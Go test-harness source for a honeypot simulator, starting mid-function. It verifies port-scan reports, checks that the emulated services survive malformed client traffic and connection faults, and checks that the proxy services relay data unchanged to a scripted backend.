			res.Violate("portscan-wrong-destination", "knock", fmt.Sprintf("port-scan event for %s names destination %v", src, e.M["destination-ip"]))
			return res
		}
		per[src] = append(per[src], ev{ports, e.Step})
	}
	nProbed := 0
	for ai := range sc.Actors {
		a := &sc.Actors[ai]
		if a.Kind != "scanner" {
			continue
		}
		// what this source probed, by burst
		want := map[string]int{} // proto/port -> number of bursts containing it
		bursts := 0
		single := true
		protoSeen := map[string]bool{}
		for bk, set := range probed {
			if bk.src != a.Src {
				continue
			}
			bursts++
			for k := range set {
				want[k]++
				protoSeen[strings.SplitN(k, "/", 2)[0]] = true
				nProbed++
			}
		}
		if len(protoSeen) > 1 {
			single = false
		}
		if bursts == 0 {
			continue
		}
		if ambiguous[a.Src] {
			// a gap close to the detector's 5 s idle time: how many reports are due is not defined
			for k := range want {
				want[k] = 1 << 20
			}
			single = false
		}
		got := map[string]int{}
		for _, e := range per[a.Src] {
			inEvent := map[string]int{}
			for _, p := range e.ports {
				got[p]++
				inEvent[p]++
				if inEvent[p] > 1 {
					res.Violate("port-listed-twice-in-one-event", "knock", fmt.Sprintf("source %s: a port-scan event lists %s %d times: %v", a.Src, p, inEvent[p], e.ports))
					return res
				}
				if p == "" {
					res.Violate("empty-port-entry", "knock", fmt.Sprintf("source %s: a port-scan event has an empty entry in its port list %v", a.Src, e.ports))
					return res
				}
			}
		}
		var keys []string
		for k := range want {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			if got[k] == 0 {
				kind := "probe-not-reported"
				if strings.HasPrefix(k, "tcp/") {
					kind = "tcp-probe-not-reported"
				}
				res.Violate(kind, "knock", fmt.Sprintf("source %s probed %s, no port-scan event lists it (events: %v; probed: %v)", a.Src, k, per[a.Src], keys))
				return res
			}
			if got[k] > want[k] {
				res.Violate("port-reported-again", "knock", fmt.Sprintf("source %s: %s was probed in %d burst(s) but is listed %d times over %d events: %v", a.Src, k, want[k], got[k], len(per[a.Src]), per[a.Src]))
				return res
			}
		}
		for k := range got {
			if want[k] == 0 {
				res.Violate("unprobed-port-reported", "knock", fmt.Sprintf("source %s: event lists %s which this source never probed (probed %v)", a.Src, k, keys))
				return res
			}
		}
		// several bursts may legitimately be reported together when other sources' probes keep re-arming
		// the detector's timer; a single burst must be reported exactly once
		if single && (len(per[a.Src]) > bursts || (bursts == 1 && len(per[a.Src]) != 1)) {
			res.Violate("burst-not-reported-exactly-once", "knock", fmt.Sprintf("source %s: %d single-protocol burst(s), %d port-scan events: %v", a.Src, bursts, len(per[a.Src]), per[a.Src]))
			return res
		}
		res.probe("sources-verified", 1)
	}
	for src := range per {
		found := false
		for _, a := range sc.Actors {
			if a.Src == src {
				found = true
			}
		}
		if !found {
			res.Violate("portscan-from-unknown-source", "knock", "event names source "+src)
			return res
		}
	}
	res.probe("port-pairs-verified", nProbed)
	return res
}
