package htsim

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
)

// C01 — no client traffic to an emulated service can terminate the honeypot process.
//
// 1-3 services of the registry (plus an echo port as liveness probe), 1-4 interleaved connections per
// service instance carrying grammar dialogues, truncations, mutations or raw bytes under seeded
// segmentation; faults: client reset / half-close / silence past the idle deadline / stalled peer.
// In-worker oracle: a fresh connection to the echo port is still served.  Process-level oracles
// (exit status, fatal banners, CPU and memory budgets per step) are evaluated by the driver.

func init() {
	engines["C01"] = &Engine{Gen: genC01, Run: runC01}
}

const probePort = 7007

// ftpSinkAddr: 10,1,0,10,4,1 in the PORT commands of the hostile FTP dialogues
const ftpSinkAddr = "10.1.0.10:1025"

func c01Services() []svcSpec {
	var out []svcSpec
	only := os.Getenv("VERIF_SERVICES")
	for _, s := range allServices {
		if only != "" && !strings.Contains(","+only+",", ","+s.Key+",") {
			continue
		}
		if s.Key == "echo" {
			continue // the TCP echo service is always present as the liveness probe port
		}
		if hostileOriginalOnly && protoLike[s.Key] != "" {
			continue
		}
		out = append(out, s)
	}
	return out
}

// buildHostileScenario is shared with C09.
func buildHostileScenario(r *Rng, idx int, maxConns int, endings []string) *Scenario {
	svcs := c01Services()
	sc := &Scenario{Engine: "hostile", Params: map[string]interface{}{}}
	var cfg strings.Builder
	cfg.WriteString(baseConfig)
	cfg.WriteString("\n[service.probe]\ntype=\"echo\"\n\n[[port]]\nport=\"tcp/7007\"\nservices=[\"probe\"]\n")
	ns := r.Range(1, 3)
	chosen := map[string]bool{}
	var keys []string
	// rotate through the table so that every service gets its share
	// rotation with weights: services with more state and code get a larger share of the runs
	var rot []svcSpec
	for _, s := range svcs {
		w := 2
		switch s.Key {
		case "ftp":
			w = 10
		case "smtp", "ldap", "vnc", "ipp", "tftp", "ssh-simulator", "memcached", "redis", "telnet":
			w = 4
		}
		if protoLike[s.Key] != "" {
			w = 1 // a service on the transport it was not written for
		}
		for ; w > 0; w-- {
			rot = append(rot, s)
		}
	}
	first := rot[idx%len(rot)]
	tries := 0
	for len(keys) < ns {
		s := svcs[r.Intn(len(svcs))]
		if len(keys) == 0 {
			s = first
		}
		if s.Key == "https" && len(keys) > 0 {
			tries++
			if tries > 50 {
				break
			}
			continue // an RSA-4096 key per fresh server: only when it is this run's main subject
		}
		// two table entries of the same port (memcached tcp/udp are different protocols: fine)
		dup := false
		for _, k := range keys {
			o := svcByKey(k)
			if o.Port == s.Port && o.UDP == s.UDP {
				dup = true
			}
		}
		tries++
		if chosen[s.Key] || dup {
			if tries > 50 {
				break
			}
			continue
		}
		chosen[s.Key] = true
		keys = append(keys, s.Key)
	}
	var faults []string
	actor := 0
	var classes []string
	for si, k := range keys {
		s := svcByKey(k)
		if !hostileOriginalOnly && !s.UDP && protoLike[s.Key] == "" && s.Key != "https" && r.Chance(0.12) {
			// the port is shared: a service with a payload detector stands in front of this one (the server peeks at
			// the first bytes to choose); besides the usual clients one connects and never sends a byte
			det := r.Pick([]string{"http", "cwmp", "docker", "ssh-simulator"})
			if det == s.Type {
				det = "http"
			}
			fmt.Fprintf(&cfg, "\n[service.det%d]\ntype=%s\n\n[service.svc%d]\ntype=%s\n%s\n[[port]]\nport=%s\nservices=[\"det%d\",\"svc%d\"]\n",
				si, tomlStr(det), si, tomlStr(s.Type), s.Cfg, tomlStr(fmt.Sprintf("tcp/%d", s.Port)), si, si)
			quiet := Actor{Kind: "tcp", Src: clientAddr(actor), Dst: fmt.Sprintf("%s:%d", sensorIP, s.Port), Svc: s.Key}
			if r.Chance(0.5) {
				quiet.Ops = []Op{{K: "sleep", Ms: 40000}, {K: "close"}}
			}
			actor++
			sc.Actors = append(sc.Actors, quiet)
			classes = append(classes, "shared-port+silent")
			faults = append(faults, "silence")
		} else {
			cfg.WriteString(s.config(fmt.Sprintf("svc%d", si)))
		}
		nc := r.Range(1, maxConns)
		for c := 0; c < nc; c++ {
			if (s.Key == "ssh-simulator" || s.Key == "ssh-auth") && r.Chance(0.65) {
				// a real ssh client: everything behind the key exchange is only reachable this way
				sp := genSSHSession(r)
				ej, _ := json.Marshal(sp)
				sc.Actors = append(sc.Actors, Actor{Kind: "sshsess", Src: clientAddr(actor), Dst: fmt.Sprintf("%s:%d", sensorIP, s.Port), Svc: s.Key, Ops: []Op{{K: "sshsess", Exp: ej}}})
				actor++
				classes = append(classes, "ssh-session")
				if sp.End != "close" {
					faults = append(faults, map[string]string{"drop": "reset", "idle": "silence"}[sp.End])
				}
				continue
			}
			msgs, class := hostileDialogue(s, r)
			a := Actor{Kind: "tcp", Src: clientAddr(actor), Dst: fmt.Sprintf("%s:%d", sensorIP, s.Port), Svc: s.Key}
			if s.UDP {
				a.Kind = "udp"
			}
			// hostile input inside TLS: after the protocol's own upgrade command (smtp, ftp), or from the first byte
			// (https: the dialogue then reaches the http handler behind the handshake)
			switch {
			case (s.Key == "smtp" || s.Key == "ftp" || s.Key == "ldap") && r.Chance(0.15):
				if s.Key == "smtp" {
					a.Ops = append(a.Ops, SendOp([]byte("EHLO x\r\n"), nil, ""), SendOp([]byte("STARTTLS\r\n"), nil, ""))
				} else if s.Key == "ldap" {
					a.Ops = append(a.Ops, SendOp(bSeq(0x30, bInt(0x02, 16000), bSeq(0x77, bStr(0x80, "1.3.6.1.4.1.1466.20037"))).enc(false), nil, ""))
				} else {
					a.Ops = append(a.Ops, SendOp([]byte("AUTH TLS\r\n"), nil, ""))
				}
				a.Ops = append(a.Ops, Op{K: "starttls"})
				class += "+tls"
			case s.Key == "https" && r.Chance(0.4):
				msgs, class = hostileDialogue(svcByKey("http"), r)
				a.Ops = append(a.Ops, Op{K: "starttls"})
				class += "+tls"
			}
			classes = append(classes, class)
			actor++
			total := 0
			for _, m := range msgs {
				if total+len(m) > 70000 {
					break
				}
				total += len(m)
				if s.UDP {
					if len(m) > 65000 {
						m = m[:65000]
					}
					a.Ops = append(a.Ops, SendOp(m, nil, ""))
					continue
				}
				if len(m) == 0 {
					continue
				}
				if bytes.Equal(m, pasvConnectMarker) {
					a.Ops = append(a.Ops, Op{K: "pasvconnect"})
					continue
				}
				op := SendOp(m, nil, "")
				switch r.Intn(4) {
				case 0:
				case 1:
					op.Cuts = r.Cuts(len(m))
				case 2:
					op.Join = true
				default:
					op.Cuts = r.Cuts(len(m))
					op.Join = r.Chance(0.3)
				}
				a.Ops = append(a.Ops, op)
			}
			if !s.UDP {
				end := endings[r.Intn(len(endings))]
				switch end {
				case "close":
					a.Ops = append(a.Ops, Op{K: "close"})
				case "reset":
					a.Ops = append(a.Ops, Op{K: "reset"})
					faults = append(faults, "reset")
				case "halfclose":
					a.Ops = append(a.Ops, Op{K: "halfclose"})
					faults = append(faults, "halfclose")
				case "silence":
					a.Ops = append(a.Ops, Op{K: "sleep", Ms: 31000}, Op{K: "close"})
					faults = append(faults, "silence")
				case "stall":
					// window closes before the dialogue: server writes block until their deadline
					a.Ops = append([]Op{{K: "stall"}}, a.Ops...)
					a.Ops = append(a.Ops, Op{K: "sleep", Ms: 31000}, Op{K: "unstall"}, Op{K: "close"})
					faults = append(faults, "stall")
				case "midreset":
					if len(a.Ops) > 1 {
						pos := 1 + r.Intn(len(a.Ops)-1)
						a.Ops = append(a.Ops[:pos:pos], Op{K: "reset"})
					} else {
						a.Ops = append(a.Ops, Op{K: "reset"})
					}
					faults = append(faults, "reset")
				case "never":
					// the client just stays (the idle deadline has to end the handler)
					faults = append(faults, "silence")
				}
			}
			sc.Actors = append(sc.Actors, a)
		}
	}
	sc.Config = cfg.String()
	sort.Strings(keys)
	sc.Params["services"] = strings.Join(keys, ",")
	sc.Class = strings.Join(keys, "+")
	sc.Faults = faults
	sc.Params["inputs"] = strings.Join(classes, ",")
	sc.Schedule = r.Schedule(200)
	if r.Chance(0.4) {
		for i := range sc.Schedule {
			if r.Chance(0.4) {
				sc.Schedule[i] |= 1 << 16
			}
		}
		sc.Params["batch"] = true
		if r.Chance(0.4) {
			// handlers released in the same step give way to each other at synchronisation points
			sc.Params["yield_pct"] = []int{10, 30, 60}[r.Intn(3)]
			sc.Params["yield_rounds"] = []int{1, 1, 4, 12}[r.Intn(4)]
		}
	}
	return sc
}

var c01Endings = []string{"close", "close", "close", "reset", "halfclose", "silence", "stall", "midreset", "never"}

func genC01(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c01")
	if os.Getenv("VERIF_RACE") != "" {
		return genC01Race(r, idx)
	}
	sc := buildHostileScenario(r, idx, 4, c01Endings)
	sc.DrainMs = 65000
	return sc
}

// genC01Race: the race-detector tier.  One service instance, 2-4 connections carrying well-formed dialogues
// (so that the handlers get deep into their state), and a schedule in which most steps release several
// deliveries before the system runs to quiescence: handlers of one step are unordered by happens-before, and
// the race detector (vector clocks, GOMAXPROCS=1) reports conflicting accesses.  Only map-vs-map races count.
// hostileOriginalOnly: the race tier keeps to the services on their own transport (its run budget is small and the
// shared state it looks for lives in the handlers proper)
var hostileOriginalOnly bool

func genC01Race(r *Rng, idx int) *Scenario {
	hostileOriginalOnly = true
	sc := buildHostileScenario(r, idx, 4, []string{"close", "close", "never"})
	hostileOriginalOnly = false
	// keep the first service only, with at least two connections to it
	first := ""
	var actors []Actor
	for _, a := range sc.Actors {
		if first == "" {
			first = a.Svc
		}
		if a.Svc == first {
			actors = append(actors, a)
		}
	}
	for len(actors) < 2 {
		b := actors[0]
		b.Src = clientAddr(len(actors) + 7)
		b.Ops = append([]Op(nil), b.Ops...)
		actors = append(actors, b)
	}
	if len(actors) > 4 {
		actors = actors[:4]
	}
	// mostly well-formed dialogues (mutations rarely matter for shared state); the prototype is chosen by the run
	// index so that every request kind of the grammar gets its turn
	svc := svcByKey(first)
	ps := prototypes(svc, r)
	opsOf := func(msgs [][]byte) []Op {
		var ops []Op
		for _, m := range msgs {
			if len(m) > 0 {
				ops = append(ops, SendOp(m, nil, ""))
			}
		}
		if !svc.UDP {
			ops = append(ops, Op{K: "close"})
		}
		return ops
	}
	if len(ps) > 0 {
		for i := range actors {
			if r.Chance(0.7) {
				actors[i].Ops = opsOf(cloneMsgs(ps[r.Intn(len(ps))]))
			}
		}
	}
	if r.Chance(0.5) {
		// twins: every connection carries the same dialogue (the same handler path on all of them at once is the
		// most likely way to meet on shared state)
		if len(ps) > 0 && r.Chance(0.8) {
			actors[0].Ops = opsOf(cloneMsgs(ps[r.Intn(len(ps))]))
		}
		for i := 1; i < len(actors); i++ {
			actors[i].Ops = append([]Op(nil), actors[0].Ops...)
		}
		sc.Params["twins"] = true
	}
	sc.Actors = actors
	sc.Schedule = r.Schedule(300)
	for i := range sc.Schedule {
		if r.Chance(0.7) {
			sc.Schedule[i] |= 1<<16 | r.Intn(4)<<17
		}
	}
	if r.Chance(0.5) || sc.ParamBool("twins") && r.Chance(0.7) {
		// simultaneous: every connection is opened first, then the first request of every connection is
		// released in one and the same step (whole requests: no cuts), so that all handlers are unordered
		n := len(actors)
		for ai := range sc.Actors {
			for oi := range sc.Actors[ai].Ops {
				if sc.Actors[ai].Ops[oi].K == "send" {
					sc.Actors[ai].Ops[oi].Cuts = nil
				}
			}
		}
		var head []int
		for i := 0; i < n; i++ {
			head = append(head, i) // connect actor i
		}
		head = append(head, 1<<16|(n-2)<<17) // batch of n: picks actors 0..n-1
		for i := 1; i < n; i++ {
			head = append(head, i)
		}
		sc.Schedule = append(head, sc.Schedule...)
		sc.Params["simultaneous"] = true
	}
	sc.Params["batch"] = true
	sc.Params["race"] = true
	sc.Class = "race/" + first
	sc.DrainMs = 35000
	return sc
}

// runHostile boots, plays, drains and probes the echo port.  extra runs inside the bubble after the
// drain (C09 takes its census there).
func runHostile(t *testing.T, sc *Scenario, res *Result, afterBoot func(w *World), afterDrain func(w *World)) (*Obs, bool) {
	probeOK := false
	probeSeen := ""
	obs := RunScenario(t, sc, func(w *World) {
		w.PreBoot = writeVNCImage
		if err := w.bootServer(sc.Config); err != nil {
			w.Obs.BootErr = err.Error()
			return
		}
		// the address FTP clients of this engine name in PORT/EPRT: a client-side listener that accepts the
		// service's active-mode data connections and then neither reads nor closes (the client has gone quiet)
		if l, err := w.Net.ListenTCP(mustTCPAddr(ftpSinkAddr), "client-sink"); err == nil {
			go func() {
				for {
					c, err := l.Accept()
					if err != nil {
						return
					}
					_ = c
				}
			}()
		}
		// ftp: the names the hostile dialogues use exist (a file f, a directory d1 with a file in it), so that RETR,
		// SIZE, LIST ... get as far as opening them
		if roots, _ := filepath.Glob(filepath.Join(w.TmpDir, "ftp", "*")); len(roots) > 0 {
			for _, root := range roots {
				os.WriteFile(filepath.Join(root, "f"), []byte("file f of the ftp root\n"), 0644)
				os.MkdirAll(filepath.Join(root, "d1"), 0755)
				os.WriteFile(filepath.Join(root, "d1", "g"), []byte("g\n"), 0644)
			}
		}
		if afterBoot != nil {
			afterBoot(w)
		}
		pasvN := 0
		w.Custom = func(w *World, ai int, op Op) {
			if op.K == "sshsess" {
				sshSessionOp(w, ai, op)
			}
			if op.K == "pasvconnect" {
				// the passive port of the last 227 reply this client received; the data connection stays open and silent
				ms := pasvRe.FindAllSubmatch(w.Obs.Conns[ai].Recv, -1)
				if len(ms) == 0 {
					return
				}
				m := ms[len(ms)-1]
				var p1, p2 int
				fmt.Sscanf(string(m[5]), "%d", &p1)
				fmt.Sscanf(string(m[6]), "%d", &p2)
				src := mustTCPAddr(w.Sc.Actors[ai].Src)
				pasvN++
				src.Port = 45000 + pasvN
				w.Net.Connect(src, mustTCPAddr(fmt.Sprintf("%s:%d", sensorIP, p1*256+p2)))
			}
		}
		w.Play()
		if w.Abort != "" {
			return
		}
		w.Drain()
		debugDumpGoroutines()
		if afterDrain != nil {
			afterDrain(w)
		}
		// liveness probe: a fresh connection to the echo port is accepted and echoed
		conns := w.Obs.Conns
		eps := w.eps
		ping := []byte(fmt.Sprintf("ping-%d\r\n", sc.Seed))
		ps := sc.Clone()
		ps.Actors = []Actor{{Kind: "tcp", Src: "198.51.100.200:50000", Dst: fmt.Sprintf("%s:%d", sensorIP, probePort), Ops: []Op{SendOp(ping, nil, "probe"), {K: "nop"}, {K: "close"}}}}
		ps.Schedule = nil
		ps.DrainMs = 100
		w.Sc = ps
		w.Play()
		w.Drain()
		if len(w.Obs.Conns) == 1 {
			probeSeen = string(w.Obs.Conns[0].Recv)
			probeOK = !w.Obs.Conns[0].Refused && bytes.Contains(w.Obs.Conns[0].Recv, ping)
		}
		w.Obs.Conns = conns
		w.eps = eps
		w.Sc = sc
	})
	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return obs, false
	}
	if !probeOK {
		res.Violate("probe-not-served", sc.ParamStr("services", ""), fmt.Sprintf("after the scenario a fresh connection to the echo port was not served (received %q)", probeSeen))
	}
	return obs, probeOK
}

func runC01(t *testing.T, sc *Scenario) Result {
	res := okResult()
	obs, _ := runHostile(t, sc, &res, nil, nil)
	res.Digest = traceDigest(obs, nil)
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	res.Nontriv = len(sc.Actors) > 1 || strings.Contains(sc.ParamStr("inputs", ""), "+") || len(sc.Faults) > 0
	for _, f := range sc.Faults {
		res.fault(f, 1)
	}
	res.fault("deadline-fired", obs.NetStats.DeadlineFires)
	res.fault("stalled-write", obs.NetStats.Stalls)
	fatal := 0
	for _, e := range obs.Events {
		if e.M["type"] == "fatal" {
			fatal++
		}
	}
	res.probe("recovered-handler-panics", fatal)
	if sc.ParamBool("batch") {
		res.probe("batch-steps", 1)
	}
	res.probe("yields-taken", obs.Yields)
	return res
}
