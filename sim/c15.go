package htsim

import (
	"bufio"
	"bytes"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"sort"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"
)

// C15 — proxy services relay requests and replies unchanged to the configured backend.
//
// http-proxy, copy (tcp and udp) and dns-proxy configured with the real forward director, whose dial
// goes through the simulated kernel; scripted backends (and a decoy) live inside the bubble.  Both legs
// are segmented independently; requests are sent lock-step or pipelined; the backend may refuse or
// close mid-reply.  (ssh-proxy is not covered yet.)

func init() {
	engines["C15"] = &Engine{Gen: genC15, Run: runC15}
}

const (
	backendAddr = "198.18.0.10"
	decoyAddr   = "198.18.0.99"
)

type c15Exchange struct {
	Req      string `json:"req"`       // hex: the request as the client sends it
	Resp     string `json:"resp"`      // hex: the response the backend sends for it
	RespCuts []int  `json:"resp_cuts"` // backend leg segmentation
}

type c15Params struct {
	Mode      string          `json:"mode"`      // http | copy-tcp | copy-udp | dns
	HostPort  bool            `json:"host_port"` // director host carries an explicit port
	Port      int             `json:"port"`
	Port2     int             `json:"port2,omitempty"` // a second service instance on another port sharing the director
	Exchanges [][]c15Exchange `json:"exchanges"`       // per client
	Fault     string          `json:"fault,omitempty"` // refuse | close-mid-reply
	SSH       []c15SSHClient  `json:"ssh,omitempty"`
	// seeded yields at the relay goroutines' blocking points (read by the world, see RunScenario)
	YieldPct    int `json:"yield_pct,omitempty"`
	YieldRounds int `json:"yield_rounds,omitempty"`
}

func c15Config(p *c15Params) string {
	host := backendAddr
	if p.HostPort {
		host = fmt.Sprintf("%s:%d", backendAddr, p.Port)
	}
	typ := map[string]string{"http": "http-proxy", "copy-tcp": "copy", "copy-udp": "copy", "dns": "dns-proxy", "dns-tcp": "dns-proxy", "ssh": "ssh-proxy"}[p.Mode]
	proto := "tcp"
	if p.Mode == "copy-udp" || p.Mode == "dns" {
		proto = "udp"
	}
	cfg := baseConfig + fmt.Sprintf("\n[director.fwd]\ntype=\"forward\"\nhost=%s\n\n[service.p]\ntype=%s\ndirector=\"fwd\"\n\n[[port]]\nport=%s\nservices=[\"p\"]\n",
		tomlStr(host), tomlStr(typ), tomlStr(fmt.Sprintf("%s/%d", proto, p.Port)))
	if p.Port2 != 0 {
		cfg += fmt.Sprintf("\n[service.p2]\ntype=%s\ndirector=\"fwd\"\n\n[[port]]\nport=%s\nservices=[\"p2\"]\n", tomlStr(typ), tomlStr(fmt.Sprintf("%s/%d", proto, p.Port2)))
	}
	return cfg
}

func genC15(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c15")
	p := c15Params{Mode: []string{"http", "http", "copy-tcp", "copy-udp", "dns", "http"}[idx%6], HostPort: r.Chance(0.5), Port: []int{8080, 80, 5353, 9000}[r.Intn(4)]}
	sc := &Scenario{Engine: "c15"}
	if idx%6 == 1 && (idx/6)%2 == 0 {
		p.Mode = "dns-tcp" // the DNS proxy on a TCP port: queries framed with the two-byte length of RFC 1035 4.2.2
	}
	if idx%6 == 5 {
		genC15SSH(r, &p, sc)
		sc.Config = c15Config(&p)
		pj, _ := json.Marshal(p)
		var pm map[string]interface{}
		json.Unmarshal(pj, &pm)
		sc.Params = pm
		sc.Schedule = r.Schedule(16)
		sc.DrainMs = 400000
		return sc
	}
	if r.Chance(0.12) {
		p.Fault = []string{"refuse", "close-mid-reply"}[r.Intn(2)]
		sc.Faults = []string{"backend-" + p.Fault}
	}
	nc := r.Range(1, 3)
	if r.Chance(0.3) {
		// two service instances on different ports behind the one named director (that is how the server wires it)
		p.Port2 = p.Port + 1 + r.Intn(3)
		nc = r.Range(2, 4)
	}
	for c := 0; c < nc; c++ {
		var exs []c15Exchange
		dport := p.Port
		if p.Port2 != 0 && (c == 1 || c > 1 && r.Chance(0.5)) {
			dport = p.Port2
		}
		a := Actor{Kind: "tcp", Name: fmt.Sprintf("c%d", c), Src: clientAddr(c), Dst: fmt.Sprintf("%s:%d", sensorIP, dport)}
		n := r.Range(1, 4)
		switch p.Mode {
		case "http":
			pipelined := r.Chance(0.3)
			for k := 0; k < n; k++ {
				tag := fmt.Sprintf("c%dr%d", c, k)
				var req strings.Builder
				m := r.Pick([]string{"GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "PATCH"})
				body := ""
				if m == "POST" || m == "PUT" || m == "PATCH" {
					body = "body-" + tag + "-" + r.word(0, 200)
					if r.Chance(0.1) {
						body += r.word(5000, 60000)
					}
				}
				fmt.Fprintf(&req, "%s /%s/%s?q=%s HTTP/1.1\r\nHost: backend.example\r\n", m, tag, r.word(0, 8), r.word(0, 6))
				if r.Chance(0.8) {
					fmt.Fprintf(&req, "User-Agent: agent-%s\r\n", r.word(1, 8))
				}
				for h := r.Intn(6); h > 0; h-- {
					fmt.Fprintf(&req, "%s: %s\r\n", r.Pick([]string{"X-A", "X-B", "Accept", "Cookie", "X-A", "Referer", "x-lower"}), r.word(1, 20))
				}
				if body != "" {
					if r.Chance(0.25) {
						fmt.Fprintf(&req, "Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n", len(body), body)
					} else {
						fmt.Fprintf(&req, "Content-Length: %d\r\n\r\n%s", len(body), body)
					}
				} else {
					req.WriteString("\r\n")
				}
				rbody := "reply-" + tag + "-" + r.word(0, 300)
				if r.Chance(0.1) {
					rbody += r.word(5000, 60000)
				}
				headLen := -1
				if m == "HEAD" {
					// a HEAD reply announces the length of the body a GET would have, and has none
					rbody = ""
					if r.Chance(0.6) {
						headLen = r.Range(1, 5000)
					}
				}
				var resp strings.Builder
				fmt.Fprintf(&resp, "HTTP/1.1 %d %s\r\nServer: backend\r\nX-Tag: %s\r\n", []int{200, 404, 500, 201}[r.Intn(4)], "Status", tag)
				if r.Chance(0.25) && m != "HEAD" {
					fmt.Fprintf(&resp, "Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n", len(rbody), rbody)
				} else if headLen >= 0 {
					fmt.Fprintf(&resp, "Content-Length: %d\r\n\r\n", headLen)
				} else {
					fmt.Fprintf(&resp, "Content-Length: %d\r\n\r\n%s", len(rbody), rbody)
				}
				ex := c15Exchange{Req: hex.EncodeToString([]byte(req.String())), Resp: hex.EncodeToString([]byte(resp.String())), RespCuts: r.Cuts(resp.Len())}
				exs = append(exs, ex)
				op := SendOp([]byte(req.String()), r.Cuts(req.Len()), tag)
				op.Join = pipelined && k < n-1
				a.Ops = append(a.Ops, op)
			}
			if !pipelined && len(a.Ops) >= 2 && p.Fault == "" && r.Chance(0.25) {
				// the segment that carries request k also carries the first bytes of request k+1 (a stray CR LF, or a
				// client that writes ahead), and the client then waits for reply k before it sends the rest
				k := r.Intn(len(a.Ops) - 1)
				r1, r2 := a.Ops[k].Bytes(), a.Ops[k+1].Bytes()
				cut := r.Range(1, len(r2)-1)
				head := SendOp(append(append([]byte(nil), r1...), r2[:cut]...), nil, a.Ops[k].Note)
				rest := SendOp(r2[cut:], nil, a.Ops[k+1].Note)
				rest.Note = "after-reply:" + fmt.Sprint(k+1)
				ops := append([]Op(nil), a.Ops[:k]...)
				ops = append(ops, head, Op{K: "sleep", Ms: 2000}, rest)
				ops = append(ops, a.Ops[k+2:]...)
				a.Ops = ops
			}
			a.Ops = append(a.Ops, Op{K: "sleep", Ms: 3000}, Op{K: "close"})
		case "dns-tcp":
			// one query per connection (that is what the service serves), in one segment or cut in two
			q := dnsQueryBytes(uint16(r.Intn(65536)), fmt.Sprintf("c%d.%s.example", c, r.word(1, 10)))
			data := append([]byte{byte(len(q) >> 8), byte(len(q))}, q...)
			var cuts []int
			if r.Chance(0.4) {
				cuts = []int{r.Range(1, len(data)-1)}
			}
			exs = append(exs, c15Exchange{Req: hex.EncodeToString(data)})
			a.Ops = append(a.Ops, SendOp(data, cuts, ""), Op{K: "sleep", Ms: 3000}, Op{K: "close"})
		case "copy-tcp":
			for k := 0; k < n; k++ {
				data := r.Bytes(r.Range(1, 2000))
				if r.Chance(0.1) {
					data = r.Bytes(r.Range(10000, 64000))
				}
				exs = append(exs, c15Exchange{Req: hex.EncodeToString(data), RespCuts: r.Cuts(len(data))})
				a.Ops = append(a.Ops, SendOp(data, r.Cuts(len(data)), ""))
			}
			a.Ops = append(a.Ops, Op{K: "sleep", Ms: 3000}, Op{K: "close"})
		default: // datagrams
			a.Kind = "udp"
			for k := 0; k < n; k++ {
				var data []byte
				if p.Mode == "dns" {
					data = dnsQueryBytes(uint16(r.Intn(65536)), fmt.Sprintf("c%dq%d.%s.example", c, k, r.word(1, 10)))
				} else {
					data = r.Bytes(r.Range(1, 1200))
					if r.Chance(0.15) {
						// large datagrams, around the sizes relay buffers come in (kept below the 32 KiB of io.Copy's own buffer)
						data = r.Bytes([]int{2047, 2048, 2049, 4094, 4095, 4096, 4097, 8190, 8192, 8193, 9000, 16384, 16385, 20000, 32766, 32767, 32769, 40000, 65000}[r.Intn(19)])
					}
				}
				reply := append([]byte("R:"), data...)
				exs = append(exs, c15Exchange{Req: hex.EncodeToString(data), Resp: hex.EncodeToString(reply)})
				a.Ops = append(a.Ops, SendOp(data, nil, ""))
			}
		}
		p.Exchanges = append(p.Exchanges, exs)
		sc.Actors = append(sc.Actors, a)
	}
	sc.Config = c15Config(&p)
	pj, _ := json.Marshal(p)
	var pm map[string]interface{}
	json.Unmarshal(pj, &pm)
	sc.Params = pm
	sc.Class = p.Mode
	if p.Fault != "" {
		sc.Class += "/" + p.Fault
	}
	sc.Schedule = r.Schedule(64)
	sc.DrainMs = 40000
	return sc
}

func dnsQueryBytes(id uint16, name string) []byte {
	b := []byte{byte(id >> 8), byte(id), 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, l := range strings.Split(name, ".") {
		b = append(b, byte(len(l)))
		b = append(b, l...)
	}
	return append(b, 0, 0, 1, 0, 1)
}

// backend records what it receives per connection and answers from the script.
type c15Backend struct {
	mu       sync.Mutex
	streams  map[string][]byte // remote address -> bytes received (tcp)
	port     map[string]int    // remote address -> port of the backend listener that accepted it
	dgrams   [][]byte
	dgPort   []int // backend port each datagram arrived on
	accepted int
	decoy    int
}

// copyTransform is what the scripted copy backend answers with.
func copyTransform(b []byte) []byte {
	out := make([]byte, len(b))
	for i, c := range b {
		out[i] = c ^ 0x5a
	}
	return out
}

func runC15(t *testing.T, sc *Scenario) Result {
	res := okResult()
	var p c15Params
	b, _ := json.Marshal(sc.Params)
	json.Unmarshal(b, &p)
	if p.Mode == "ssh" {
		return runC15SSH(t, sc, &p)
	}
	be := &c15Backend{streams: map[string][]byte{}, port: map[string]int{}}
	// responses by tag (http) in script order over all clients
	respByTag := map[string]c15Exchange{}
	for _, exs := range p.Exchanges {
		for _, ex := range exs {
			req, _ := hex.DecodeString(ex.Req)
			if p.Mode == "http" {
				if r, err := http.ReadRequest(bufio.NewReader(bytes.NewReader(req))); err == nil {
					respByTag[strings.Split(r.URL.Path, "/")[1]] = ex
				}
			}
		}
	}
	obs := RunScenario(t, sc, func(w *World) {
		n := w.Net
		if p.Fault == "refuse" {
			n.RefuseDial = func(network, addr string) bool { return true }
		}
		// backend and decoy listeners (before boot, inside the bubble)
		switch p.Mode {
		case "http", "copy-tcp", "dns-tcp":
			for _, ipp := range c15Listeners(&p) {
				ip, lport := ipp.ip, ipp.port
